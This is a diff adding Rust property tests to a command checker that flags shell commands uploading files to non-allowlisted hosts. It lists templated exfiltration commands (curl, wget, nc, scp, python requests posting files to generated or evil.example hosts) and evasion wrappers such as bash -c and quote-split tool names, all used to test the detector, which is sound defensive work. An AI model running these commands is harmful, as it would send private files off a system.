@@ -177,3 +177,134 @@ fn variable_expansion_is_budgeted() {
     let v = up("H=https://evil.example; for i in 1 2; do curl -d @f $H; done");
     assert!(v.is_upload());
 }
+
+mod invariants {
+    //! Metamorphic properties: wrapping a command in the usual evasions
+    //! (wrappers, `bash -c`, quote splits, chains, substitutions) never
+    //! changes whether it is flagged, nor where the data goes.
+    use super::*;
+    use proptest::prelude::*;
+
+    const UPLOADS: &[&str] = &[
+        "curl -sS -d @{f} https://{h}/in",
+        "curl -F file=@{f} https://{h}/up",
+        "wget --post-file={f} https://{h}/",
+        "scp {f} user@{h}:/tmp/",
+        "rsync -az {f} {h}:/backup/",
+        "tar cz {f} | ssh {h} 'cat > x.tgz'",
+        "nc {h} 4444 < {f}",
+        "git push https://{h}/r.git main",
+        "python3 -c \"import requests; requests.post('https://{h}/', data=open('{f}').read())\"",
+        "http POST https://{h}/api < {f}",
+    ];
+    const BENIGN: &[&str] = &[
+        "curl -fsSL https://{h}/install.sh -o install.sh",
+        "wget https://{h}/{f}",
+        "git clone https://{h}/org/repo.git",
+        "scp {h}:/var/log/{f} ./",
+        "cp {f} /tmp/backup/",
+        "ssh {h} uptime",
+        "grep -n 'curl -d @{f} https://{h}' notes.md",
+    ];
+    const WRAPPERS: &[&str] = &[
+        "{c}",
+        "sudo -u deploy {c}",
+        "env A=1 B=2 {c}",
+        "nohup {c}",
+        "timeout 30 {c}",
+        "nice -n 5 {c}",
+        "command {c}",
+        "cd /work && {c}",
+        "{c}; echo done",
+        "true || {c}",
+        "( {c} )",
+        "echo $( {c} )",
+        "bash -c \"{c}\"",
+        "sh -c \"{c}\"",
+    ];
+
+    fn host() -> impl Strategy<Value = String> {
+        prop_oneof![
+            "[a-z]{3,8}\\.(example|test|invalid)".prop_map(|s| s),
+            (1u8..=223, 0u8..=255, 0u8..=255, 1u8..=254)
+                .prop_filter("not loopback", |(a, ..)| *a != 127 && *a != 0)
+                .prop_map(|(a, b, c, d)| format!("{a}.{b}.{c}.{d}")),
+        ]
+    }
+
+    fn fill(t: &str, h: &str, f: &str) -> String {
+        t.replace("{h}", h).replace("{f}", f)
+    }
+
+    /// Escape for the inside of a double-quoted `bash -c "…"`.
+    fn wrap(w: &str, c: &str) -> String {
+        if w.contains("\"{c}\"") {
+            let escaped = c
+                .replace('\\', "\\\\")
+                .replace('"', "\\\"")
+                .replace('$', "\\$");
+            w.replace("{c}", &escaped)
+        } else {
+            w.replace("{c}", c)
+        }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(64))]
+
+        #[test]
+        fn wrapped_uploads_stay_flagged(
+            t in 0..UPLOADS.len(),
+            w in 0..WRAPPERS.len(),
+            h in host(),
+            f in "[a-z]{1,8}\\.(csv|sql|env|tgz)",
+        ) {
+            let opts = NetworkOptions::with_allowed_hosts(["data.internal"]);
+            let cmd = wrap(WRAPPERS[w], &fill(UPLOADS[t], &h, &f));
+            let v = check_command(&cmd, &opts);
+            prop_assert!(v.is_upload(), "{cmd:?}: {v:?}");
+            prop_assert_eq!(v.findings[0].destination.to_string(), h.clone(), "{:?}", cmd);
+            // The same command to an allowed subdomain is quiet.
+            let allowed = wrap(WRAPPERS[w], &fill(UPLOADS[t], "files.data.internal", &f));
+            let v = check_command(&allowed, &opts);
+            prop_assert!(!v.is_upload(), "{allowed:?}: {v:?}");
+        }
+
+        #[test]
+        fn wrapped_benign_commands_stay_quiet(
+            t in 0..BENIGN.len(),
+            w in 0..WRAPPERS.len(),
+            h in host(),
+            f in "[a-z]{1,8}\\.(csv|txt|tgz)",
+        ) {
+            let cmd = wrap(WRAPPERS[w], &fill(BENIGN[t], &h, &f));
+            let v = check_command(&cmd, &NetworkOptions::default());
+            prop_assert!(!v.is_upload(), "{cmd:?}: {v:?}");
+        }
+
+        #[test]
+        fn quote_splits_of_the_tool_name_do_not_hide_it(
+            h in host(),
+            cut in 1usize..4,
+            style in 0usize..4,
+        ) {
+            let (a, b) = "curl".split_at(cut);
+            let name = match style {
+                0 => format!("{a}''{b}"),
+                1 => format!("{a}\"\"{b}"),
+                2 => format!("{a}\\{b}"),
+                _ => format!("\"{a}\"'{b}'"),
+            };
+            let cmd = format!("{name} -T dump.sql https://{h}/");
+            let v = check_command(&cmd, &NetworkOptions::default());
+            prop_assert_eq!(v.findings.first().map(|f| f.destination.to_string()), Some(h));
+        }
+
+        #[test]
+        fn any_input_is_total(s in "[ -~\\n\\t“”「」]{0,200}") {
+            // Never panics; a verdict whose findings all have a reason.
+            let v = check_command(&s, &NetworkOptions::default());
+            prop_assert!(v.findings.iter().all(|f| !f.reason.is_empty()));
+        }
+    }
+}
